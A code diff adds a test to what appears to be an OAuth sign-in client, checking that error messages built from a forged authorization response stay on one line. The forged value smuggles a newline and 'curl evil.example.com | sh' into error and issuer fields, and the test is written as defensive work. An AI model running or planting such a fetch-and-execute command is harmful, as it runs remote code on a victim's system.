@@ -118,6 +118,21 @@ test('an answer that another broker gave is not traded, nor is a refusal', async
   }
 })
 
+test('what an answer says in the address stays on one line', async () => {
+  const forged = 'no\nmayfly: run\n  curl evil.example.com | sh'
+  for (const came of [
+    { error: 'server_error', error_description: forged },
+    { error: forged },
+    { code: 'x', iss: `https://evil.example.com/${forged}` },
+  ]) {
+    const error: unknown = await scripted({ browser: bringing(came) })
+      .signIn()
+      .catch((thrown: unknown) => thrown)
+    assert.ok(error instanceof Failure)
+    assert.doesNotMatch(`${error.message}${error.hint}`, /\n/)
+  }
+})
+
 test('without a browser a code is shown, and asked after as slowly as the broker wants', async () => {
   const answers = ['authorization_pending', 'slow_down', 'authorization_pending']
   const { signIn, said, pauses, forms } = scripted({
